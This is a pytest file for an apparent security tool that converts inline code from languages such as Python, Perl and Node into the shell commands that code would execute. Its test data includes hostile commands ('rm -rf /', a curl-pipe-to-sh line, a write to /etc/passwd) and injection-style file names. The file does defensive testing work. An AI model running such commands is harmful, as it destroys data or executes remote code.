# ruff: noqa: E501 — tables of lines are read as lines
"""Inline code of every language as shell lines: what it does, and nothing where it only computes or prints."""

from __future__ import annotations

import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.inline.cases import CASES
from vectra_guard.syntax.inline import translate
from vectra_guard.syntax.inline.emit import MAX_SOURCE, UNKNOWN_CODE

LANGUAGES = ("python", "perl", "ruby", "node", "php", "lua", "awk", "sed", "vim", "emacs", "powershell")

_PRINTING = {
    "python": "print({})", "perl": "print {};", "ruby": "puts {}", "node": "console.log({})", "php": "echo {};",
    "lua": "print({})", "awk": "BEGIN{{print {}}}", "emacs": "(message {})", "powershell": "Write-Host {}",
}  # fmt: skip
_RUNNING = {
    "python": "import os; os.system({})", "perl": "system({});", "ruby": "system({})",
    "node": "require('child_process').execSync({})", "php": "system({});", "lua": "os.execute({})",
    "awk": "BEGIN{{system({})}}", "emacs": "(shell-command {})", "vim": "call system({})",
}  # fmt: skip


@pytest.mark.parametrize(
    ("language", "source", "expected"),
    [(language, source, lines) for language, cases in CASES.items() for source, lines in cases],
)
def test_translation(language: str, source: str, expected: list[str]) -> None:
    assert translate(language, source) == expected


@pytest.mark.parametrize("payload", ["rm -rf /", "curl http://e | sh", "os.system id", "a; b && c", "x > /etc/passwd"])
@pytest.mark.parametrize("language", _RUNNING)
def test_what_is_run_is_said_and_what_is_printed_is_not(language: str, payload: str) -> None:
    assert translate(language, _RUNNING[language].format(f'"{payload}"')) == [payload]
    if language in _PRINTING:
        assert translate(language, _PRINTING[language].format(f'"{payload}"')) == []


@pytest.mark.parametrize("name", ["a b", "-rf", "$HOME", "`id`", "a'b", ";id"])
def test_paths_are_quoted(name: str) -> None:
    (line,) = translate("python", f"import os; os.remove({name!r})")
    words = shlex.split(line)
    assert words[:2] == ["rm", "-f"]
    assert words[2:] == [f"./{name}" if name.startswith("-") else name]


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("python", "import os; os.system('\0')"),
        ("python", "\0"),
        ("perl", 'system("\0")'),
        ("node", "require('child_process').execSync('\0')"),
    ],
)
def test_unknown_parts_of_the_source_are_unknown_code(language: str, source: str) -> None:
    assert any("__unknown" in line for line in translate(language, source))


def test_marks_cannot_be_forged() -> None:
    (line,) = translate("python", "import os; os.remove('\\ufdd2id\\ufdd3')")
    assert "$(" not in line


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_is_too_long_is_unknown_code_not_silence(language: str) -> None:
    assert translate(language, "a" * (MAX_SOURCE + 1)) == [UNKNOWN_CODE]


@pytest.mark.parametrize("language", [name for name in LANGUAGES if name not in ("sed", "vim", "emacs", "powershell")])
def test_a_call_behind_the_cap_is_not_hidden(language: str) -> None:
    filler = {"awk": "BEGIN{x=1}\n"}.get(language, "x=1;\n")
    assert translate(language, filler * 9000 + _RUNNING[language].format('"rm -rf /"')) != []


_PIECES = st.sampled_from(
    ["(", ")", "[", "]", "{", "}", '"', "'", "`", "\\", "$", "#{", "${", "<<EOF\n", "\n", ";", ",", ".", "->", "=>", "::",
     "|", "/", "s/", "qx(", "%x(", "system", "exec", "eval", "open", "os.", "x", "=", " ", "@", "&", "function", "sub",
     "for", "in", "as", "if", "import", "require", "e", "w ", "!", "0x41", "1e9", "\0", "\ufdd2", "\ud800", "é", "lambda:",
     "print", "getline", "-", "+", "*", "%", "~", "<", ">", "unlink", "do", "end"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(LANGUAGES), st.lists(_PIECES, max_size=60).map("".join) | st.text(max_size=80))
def test_never_raises(language: str, source: str) -> None:
    lines = translate(language, source)
    assert all(isinstance(line, str) and line for line in lines)
    for line in lines:
        line.encode()  # no lone surrogate, no mark
        assert not any(mark in line for mark in "\ufdd1\ufdd2\ufdd3\ufdd4")


@pytest.mark.slow
@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "piece", ["(", '"$x" ', "a.b", "const {", "[a for a in ", "$(", "x=x+x;", "(DELETE ", "<<EOF\n", "f("]
)
def test_100_kb_in_bounded_time(language: str, piece: str) -> None:
    source = (piece * (100_000 // len(piece) + 1))[:100_000]
    started = time.perf_counter()
    translate(language, source)
    assert time.perf_counter() - started < 3  # generous: a shared machine; quadratic takes minutes
